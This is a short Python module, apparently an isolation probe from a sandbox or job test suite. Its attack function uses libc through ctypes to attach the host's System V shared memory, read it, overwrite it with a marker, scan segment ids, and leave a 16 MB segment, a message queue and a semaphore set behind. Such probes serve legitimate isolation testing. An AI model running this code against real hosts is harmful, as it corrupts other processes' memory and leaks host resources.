"""Reach the host's SysV IPC: attach a world-writable host segment by key, read and overwrite
it, scan small ids, and leave a 16 MB segment, a message queue and a semaphore set behind."""
import ctypes


def attack(ctx):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    bad = (None, ctypes.c_void_p(-1).value)
    out = {}
    sid = libc.shmget(ctx["shm_key"], 0, 0)
    if sid >= 0:
        addr = libc.shmat(sid, None, 0)
        if addr not in bad:
            out["host"] = ctypes.string_at(addr, 48).decode("latin-1")
            ctypes.memmove(addr, b"OVERWRITTEN-BY-JOB", 18)
    for i in range(32):
        addr = libc.shmat(i, None, 0o10000)  # SHM_RDONLY
        if addr not in bad:
            out.setdefault("ids", []).append(ctypes.string_at(addr, 48).decode("latin-1"))
    key = ctx["shm_key"] + 1
    left = libc.shmget(key, 16 << 20, 0o1000 | 0o666)
    if left >= 0:
        a = libc.shmat(left, None, 0)
        if a not in bad:
            ctypes.memset(a, 0x41, 16 << 20)
    out["left"] = [left, libc.msgget(key, 0o1000 | 0o666), libc.semget(key, 2, 0o1000 | 0o666)]
    return out
